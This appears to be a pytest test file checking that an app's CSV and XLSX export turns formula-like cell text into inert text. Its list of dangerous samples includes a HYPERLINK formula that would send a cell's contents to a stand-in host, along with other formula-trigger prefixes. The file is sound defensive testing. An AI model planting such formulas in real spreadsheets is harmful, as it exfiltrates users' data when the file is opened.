"""Spreadsheet cells that would be formulas are written as inert text (CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from app import spreadsheets

DANGEROUS = [
    '=HYPERLINK("http://x.example/?q="&A1;"Klikk")',
    "+47 69 19 00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_neutralised_in_csv_and_xlsx(text):
    header = ["Adresse", "Tall"]
    rows = [[text, -5], ["Storgata 1", 3]]
    table = list(
        csv.reader(
            io.StringIO(spreadsheets.to_csv(header, rows).decode("utf-8-sig")), delimiter=";"
        )
    )
    assert table[1] == ["'" + text, "-5"]  # numbers stay numbers, text gets the apostrophe
    assert table[2] == ["Storgata 1", "3"]

    sheet = load_workbook(io.BytesIO(spreadsheets.to_xlsx("Ark", header, rows))).active
    cell = sheet.cell(2, 1)
    assert cell.data_type == "s" and cell.value.startswith("'")
    assert cell.value[1:].replace("\n", "\r") == text.replace("\n", "\r")  # XML keeps \r as \n
    assert sheet.cell(2, 2).value == -5 and sheet.cell(2, 2).data_type == "n"
    assert sheet.cell(3, 1).value == "Storgata 1"


def test_no_formula_cell_is_ever_written():
    data = spreadsheets.to_xlsx("Ark", ["a"], [["=1+1"], ["x"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
